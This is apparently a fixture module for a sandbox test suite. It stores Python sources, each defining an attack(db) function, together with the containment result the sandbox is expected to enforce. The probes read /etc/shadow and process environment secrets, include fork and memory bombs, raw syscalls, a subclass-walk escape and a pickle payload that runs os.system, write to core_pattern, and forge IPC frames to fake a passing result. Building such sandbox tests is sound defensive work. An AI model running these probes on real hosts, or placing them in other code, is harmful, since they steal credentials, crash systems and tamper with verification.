"""Hostile programs for the sandbox tests. DATA ONLY: the sources run nowhere but inside the sandbox.

Every source defines `attack(db)`, which returns evidence as plain data; `db` is the connection that a tool gets. The
marks `{folder}`, `{shared}` and `{port}` stand for a folder and a shared-memory prefix of the runner and for the port it
listens on; `prepare` fills them. The runner plants canaries in the HOST, and none of them may come back:

    file    {folder}/canary.txt                   its text
    env     ENVSYNTH_CANARY of the host           its text
    memory  a local and a global of the runner    its text
    tcp     a listener on a loopback port, and an abstract unix socket: any accept is a leak
    files   {folder}/pwned*, {shared}* must not appear; the canary file must keep its text
"""

from __future__ import annotations

HOSTILE: dict[str, tuple[str, str]] = {}
"""Name to source and what containment means."""


def _add(name: str, meaning: str, source: str) -> None:
    HOSTILE[name] = (source.strip("\n") + "\n", meaning)


def prepare(source: str, folder: str, shared: str, port: int) -> str:
    """Fill the runner's folder, shared-memory prefix and port into a source."""
    return source.replace("{folder}", folder).replace("{shared}", shared).replace("{port}", str(port))


_add(
    "file_read",
    "no host file content returned (PermissionError / FileNotFoundError / no open())",
    r"""
def attack(db):
    out = {}
    for p in ('{folder}/canary.txt', '/etc/passwd', '/etc/shadow', '/proc/self/environ', '/proc/self/maps', '/proc/1/environ', '/etc/ssh/sshd_config'):
        try:
            with open(p) as f: out[p] = f.read(200)
        except Exception as e: out[p] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "dir_listing",
    "host directories are not enumerable",
    r"""
def attack(db):
    import os, glob
    out = {}
    for p in ('/', '/tmp', '/home', '/proc', '/srv'):
        try: out[p] = sorted(os.listdir(p))[:8]
        except Exception as e: out[p] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "file_write",
    "no file appears on the host; own code and interpreter files are not modified",
    r"""
def attack(db):
    import os
    out = {}
    for p in ('{folder}/pwned.txt', '{shared}', os.__file__ if hasattr(os, '__file__') else '/usr/lib/x', '{folder}/canary.txt'):
        try:
            with open(p, 'a') as f: f.write('# pwned\n')
            out[p] = 'WROTE'
        except Exception as e: out[p] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "network_tcp",
    "no connection reaches the loopback listener or the internet, no DNS",
    r"""
def attack(db):
    import socket
    out = {}
    for h, p in (('127.0.0.1', {port}), ('1.1.1.1', 80), ('169.254.169.254', 80), ('::1', {port})):
        try:
            s = socket.create_connection((h, p), 1); s.send(b'hi'); out[h] = 'CONNECTED'
        except Exception as e: out[h] = 'X ' + type(e).__name__ + ' ' + str(e)[:60]
    try: out['dns'] = socket.gethostbyname('example.com')
    except Exception as e: out['dns'] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "fork_bomb",
    "process count stays bounded, host stays responsive, nothing survives the worker",
    r"""
def attack(db):
    import os, time
    n = 0
    try:
        for i in range(100000):
            pid = os.fork(); n += 1
            if pid == 0:
                while True:
                    try: os.fork()
                    except OSError: time.sleep(0.01)
    except Exception as e:
        return {'forks': n, 'err': type(e).__name__ + ' ' + str(e)[:60]}
    return {'forks': n}
""",
)

_add(
    "exec_shell",
    "no program is started",
    r"""
def attack(db):
    import os
    out = {}
    try: out['system'] = os.system('touch {folder}/pwned_system')
    except Exception as e: out['system'] = 'X ' + type(e).__name__
    try:
        import subprocess; out['subprocess'] = subprocess.run(['cat', '{folder}/canary.txt'], capture_output=True, text=True).stdout
    except Exception as e: out['subprocess'] = 'X ' + type(e).__name__ + ' ' + str(e)[:60]
    try: out['spawn'] = os.posix_spawn('/bin/cat', ['cat', '/etc/passwd'], {})
    except Exception as e: out['spawn'] = 'X ' + type(e).__name__
    try: os.execv('/bin/sh', ['sh', '-c', 'echo pwned'])
    except Exception as e: out['execv'] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "memory_bomb",
    "MemoryError inside (or the worker dies alone) at the limit; host RSS unaffected",
    r"""
def attack(db):
    x = []; n = 0
    try:
        while True:
            x.append(bytearray(16 << 20)); n += 16
            if n > 4096: return {'mb': n, 'ESCAPE': 'no memory limit below 4 GiB'}
    except MemoryError:
        x = None
        return {'mb': n, 'err': 'MemoryError'}
""",
)

_add(
    "infinite_loop",
    "stopped by the time limit; the host gets a timeout error on schedule",
    r"""
def attack(db):
    while True: pass
""",
)

_add(
    "redos",
    "catastrophic regex is stopped by soft or hard deadline",
    r"""
def attack(db):
    import re
    return bool(re.match(r'^(a|a)*$', 'a' * 60 + 'b')) or bool(re.match(r'^(\w+\s?)*$', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'))
""",
)

_add(
    "catch_timeout",
    "code that catches BaseException cannot outlive the hard deadline",
    r"""
def attack(db):
    n = 0
    while True:
        try:
            while True: n += sum(range(100000))
        except BaseException: n = 0
""",
)

_add(
    "deep_recursion",
    "RecursionError or the worker dies alone (SIGSEGV); host unaffected",
    r"""
def attack(db):
    import sys
    try: sys.setrecursionlimit(10 ** 9)
    except Exception: pass
    def f(n): return f(n + 1)
    try: return f(0)
    except RecursionError: return 'RecursionError'
""",
)

_add(
    "c_stack_crash",
    "interpreter crash kills only this worker",
    r"""
def attack(db):
    import sys
    try: sys.setrecursionlimit(10 ** 9)
    except Exception: pass
    x = []
    for i in range(10 ** 6): x = [x]
    try: repr(x)
    except RecursionError: pass
    try: eval('-' * 10 ** 6 + '1')
    except (RecursionError, MemoryError, SyntaxError): pass
    try: eval("lambda:" * 100000 + "0")
    except (RecursionError, MemoryError, SyntaxError): pass
    return 'survived'
""",
)

_add(
    "ctypes_syscalls",
    "raw syscalls (execve, socket, openat, ptrace, bpf, io_uring, userfaultfd, keyctl, unshare, mount) all fail",
    r"""
def attack(db):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    out = {}
    def t(name, nr, *a):
        r = libc.syscall(nr, *a); out[name] = r if r >= 0 else 'E%d' % ctypes.get_errno()
    t('socket', 41, 2, 1, 0); t('openat', 257, -100, b'{folder}/canary.txt', 0); t('ptrace', 101, 16, 1, 0, 0)
    t('bpf', 321, 0, 0, 0); t('io_uring', 425, 8, ctypes.create_string_buffer(256)); t('userfaultfd', 323, 1); t('keyctl', 250, 0, -3, 0)
    t('unshare', 272, 0x10000000); t('mount', 165, b'none', b'/tmp', b'tmpfs', 0, 0); t('process_vm_readv', 310, 1, 0, 0, 0, 0, 0)
    t('perf', 298, 0, 0, -1, -1, 0); t('memfd', 319, b'x', 0); t('pidfd_open', 434, 1, 0); t('setuid0', 105, 0); t('execve', 59, b'/bin/true', 0, 0)
    return out
""",
)

_add(
    "null_deref",
    "segfault kills only this worker and is reported as a crash",
    r"""
def attack(db):
    import ctypes
    ctypes.string_at(0)
""",
)

_add(
    "subclasses_walk",
    "finding os/subprocess through object.__subclasses__() gives nothing more than the kernel allows",
    r"""
def attack(db):
    out = {}
    for c in ().__class__.__base__.__subclasses__():
        try:
            g = c.__init__.__globals__
        except Exception: continue
        if 'system' in g:
            try: out['system'] = g['system']('touch {folder}/pwned_subclasses'); break
            except Exception as e: out['system'] = 'X ' + type(e).__name__
        if 'open' in g.get('__builtins__', {}) and 'open' not in out:
            try: out['open'] = g['__builtins__']['open']('{folder}/canary.txt').read()
            except Exception as e: out['open'] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "frames_answer",
    "walking caller frames shows no verifier answer, secret or host object",
    r"""
def attack(db):
    import sys
    f = sys._getframe(); out = []
    while f:
        out.append([f.f_code.co_name, sorted(f.f_locals)[:12], repr(f.f_locals)[:1500], repr(list(f.f_globals))[:300]]); f = f.f_back
    return out
""",
)

_add(
    "sys_modules_answer",
    "modules of the host (runner, verifier, config) are not importable or loaded here",
    r"""
def attack(db):
    import sys
    m = sys.modules.get('__main__'); out = {'main': sorted(vars(m))[:60] if m else None}
    out['suspicious'] = [n for n in sys.modules if any(s in n for s in ('verifier', 'envsynth', 'runner', 'docker', 'openai'))]
    out['vals'] = [repr(v)[:80] for v in (vars(m).values() if m else []) if isinstance(v, (str, bytes, dict, list))][:40]
    return out
""",
)

_add(
    "proc_mem",
    "no reading or writing of own parent / other process memory through /proc or ptrace",
    r"""
def attack(db):
    import os
    out = {}
    for p in ('/proc/self/mem', '/proc/%d/mem' % os.getppid(), '/proc/%d/environ' % os.getppid(), '/proc/1/maps', '/proc/self/root/etc/passwd', '/proc/self/cwd/..', '/proc/%d/fd' % os.getppid()):
        try:
            with open(p, 'rb') as f: out[p] = 'OPENED ' + repr(f.read(40))
        except Exception as e: out[p] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "proc_write",
    "no kernel or process knobs are writable",
    r"""
def attack(db):
    out = {}
    for p, v in (('/proc/self/oom_score_adj', '-1000'), ('/proc/sys/kernel/core_pattern', '|{folder}/pwned_core'), ('/proc/sysrq-trigger', 'h'), ('/sys/kernel/uevent_helper', '{folder}/pwned_uevent'), ('/sys/fs/cgroup/memory/memory.limit_in_bytes', '-1')):
        try:
            with open(p, 'w') as f: f.write(v)
            out[p] = 'WROTE'
        except Exception as e: out[p] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "sqlite_escape",
    "ATTACH, VACUUM INTO, load_extension, writable_schema, fts/zipfile/readfile reach no file and no code",
    r"""
def attack(db):
    out = {}
    def t(k, f):
        try: out[k] = repr(f())[:80]
        except Exception as e: out[k] = 'X ' + type(e).__name__ + ' ' + str(e)[:60]
    t('attach', lambda: db.execute("attach '{folder}/pwned_attach.db' as z").fetchall() or db.execute('create table z.t(x)').fetchall())
    t('attach_etc', lambda: db.execute("attach '/etc/passwd' as p").fetchall() or db.execute('select * from p.sqlite_master').fetchall())
    t('vacuum_into', lambda: db.execute("vacuum into '{folder}/pwned_vacuum.db'").fetchall())
    t('enable_ext', lambda: db.enable_load_extension(True))
    t('load_ext', lambda: db.load_extension('/usr/lib/x86_64-linux-gnu/libc.so.6'))
    t('load_ext_sql', lambda: db.execute("select load_extension('{folder}/pwned.so')").fetchall())
    t('writable_schema', lambda: (db.execute('pragma writable_schema=1').fetchall(), db.execute("update sqlite_master set sql='create table t(x)' where type='table'").rowcount))
    t('temp_dir', lambda: db.execute("pragma temp_store_directory='/tmp'").fetchall())
    t('readfile', lambda: db.execute("select readfile('/etc/passwd')").fetchall())
    t('journal', lambda: db.execute("pragma journal_mode=wal").fetchall())
    return out
""",
)

_add(
    "monkeypatch",
    "patching json/sqlite3/builtins poisons at most this worker; the host and the next worker see clean modules",
    r"""
def attack(db):
    import json, sqlite3, builtins
    try: json.loads = json.dumps = lambda *a, **k: '{"ok": true, "value": "forged"}'
    except Exception as e: pass
    try: sqlite3.connect = None
    except Exception as e: pass
    try: builtins.len = lambda x: 0
    except Exception as e: pass
    return 'patched'
""",
)

_add(
    "forge_frames",
    "raw writes of forged or oversized frames to every fd are rejected by the host (bad id / frame cap), worker is discarded",
    r"""
def attack(db):
    import os, struct
    n = 0
    for fd in range(0, 64):
        for p in (struct.pack('>II', 0xffffffff, 0xffffffff), b'A' * 4096):
            try: os.write(fd, p); n += 1
            except OSError: pass
    return n
""",
)

_add(
    "os_exit",
    "host sees a dead worker, not a hang or a pass",
    r"""
def attack(db):
    import os
    os._exit(0)
""",
)

_add(
    "kill_others",
    "no signal reaches the zygote, sibling workers or the host",
    r"""
def attack(db):
    import os, signal
    out = {}
    for pid in (os.getppid(), 1, -1, 0, 2, 3):
        try: os.kill(pid, signal.SIGKILL); out[pid] = 'SENT'
        except Exception as e: out[pid] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "output_flood",
    "stdout is capped; an oversized result is refused; host memory stays flat",
    r"""
def attack(db):
    for i in range(20000): print('x' * 10000)
    return 'y' * 200_000_000
""",
)

_add(
    "zip_bomb",
    "decompression bomb hits the memory limit",
    r"""
def attack(db):
    import zlib
    c = zlib.compressobj(1); z = b'\0' * (1 << 20); b = b''.join(c.compress(z) for _ in range(500)) + c.flush()
    try: return len(zlib.decompress(b))
    except MemoryError: return 'MemoryError'
""",
)

_add(
    "threads_left",
    "no thread survives the call to change later results",
    r"""
def attack(db):
    import threading, time, json
    def bg():
        while True:
            time.sleep(0.001); json.dumps = lambda *a, **k: '{}'
    out = []
    for i in range(50):
        try: t = threading.Thread(target=bg, daemon=True); t.start(); out.append('STARTED')
        except Exception as e: out.append('X ' + type(e).__name__)
    return out[:3]
""",
)

_add(
    "import_hooks",
    "meta_path / path hooks / builtins.__import__ reach only this worker; no new module can be loaded from disk",
    r"""
def attack(db):
    import sys
    out = {}
    class H:
        def find_spec(self, name, path=None, target=None): out.setdefault('hooked', []).append(name); return None
    sys.meta_path.insert(0, H())
    for m in ('antigravity', 'ctypes', 'multiprocessing', 'http.client', 'asyncio', 'pip', 'cffi'):
        try: __import__(m); out[m] = 'IMPORTED'
        except BaseException as e: out[m] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "pickle_payload",
    "the host receives plain JSON data; no object is unpickled",
    r"""
def attack(db):
    class E:
        def __reduce__(self):
            import os
            return (os.system, ('touch {folder}/pwned_pickle',))
    return E()
""",
)

_add(
    "symlink",
    "no links are created",
    r"""
def attack(db):
    import os
    out = {}
    for f, a in ((os.symlink, ('/etc/passwd', '{folder}/pwned_link')), (os.link, ('/etc/passwd', '{folder}/pwned_hard')), (os.mkfifo, ('{folder}/pwned_fifo',)), (os.chdir, ('/tmp',))):
        try: f(*a); out[f.__name__] = 'DONE'
        except Exception as e: out[f.__name__] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "env_secrets",
    "environment holds no secret",
    r"""
def attack(db):
    import os
    out = {'environ': dict(os.environ)}
    try: out['proc'] = open('/proc/self/environ').read()
    except Exception as e: out['proc'] = 'X ' + type(e).__name__
    return out
""",
)

_add(
    "disk_fill",
    "no writable storage: tmpfs, shm, memfd are refused or bounded",
    r"""
def attack(db):
    import os
    out = {}
    try:
        fd = os.memfd_create('x'); n = 0
        for i in range(4096): n += os.write(fd, b'\0' * (1 << 20))
        out['memfd_mb'] = n >> 20
        if n >= 4096 << 20: out['ESCAPE'] = 'unbounded memfd'
    except Exception as e: out['memfd'] = 'X ' + type(e).__name__
    for p in ('{folder}/pwned_fill', '{shared}_fill'):
        try:
            with open(p, 'wb') as f:
                for i in range(4096): f.write(b'\0' * (1 << 20))
            out[p] = 'FILLED 4 GiB'
        except Exception as e: out[p] = 'X ' + type(e).__name__ + ' ' + str(e)[:40]
    return out
""",
)

MORE: dict[str, tuple[str, str]] = {
    "abstract_socket": (
        r"""
def attack(db):
    import _socket
    out = {}
    for kind in (1, 2, 5):
        try:
            s = _socket.socket(_socket.AF_UNIX, kind); s.connect('\0{shared}'); out[kind] = 'CONNECTED'
        except Exception as e: out[kind] = 'X ' + type(e).__name__
    return out
""",
        "no abstract socket of the host is reached",
    ),
    "other_descriptors": (
        r"""
def attack(db):
    import os, socket
    out = {}
    for fd in range(3, 64):
        try: out[fd] = os.fstat(fd).st_size
        except OSError as e: out[fd] = 'X ' + type(e).__name__
        try: s = socket.socket(fileno=os.dup(fd)); out[fd] = 'DONE'
        except OSError as e: pass
    return out
""",
        "descriptors cannot be copied or looked at",
    ),
    "raise_limits": (
        r"""
def attack(db):
    import resource
    out = {}
    for name in ('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_NPROC', 'RLIMIT_FSIZE'):
        try: resource.setrlimit(getattr(resource, name), (-1, -1)); out[name] = 'DONE'
        except Exception as e: out[name] = 'X ' + type(e).__name__
    return out
""",
        "limits cannot be raised",
    ),
    "forged_ok": (
        r"""
def attack(db):
    import os, struct
    for n in range(1, 9):
        text = b'{"id":%d,"status":"ok","value":NaN}' % n
        for fd in range(3, 16):
            try: os.write(fd, struct.pack('>II', len(text), 0) + text)
            except OSError: pass
    while True: pass
""",
        "a forged reply that is not strict JSON ends the worker",
    ),
}
"""Programs of our own, in the same form."""
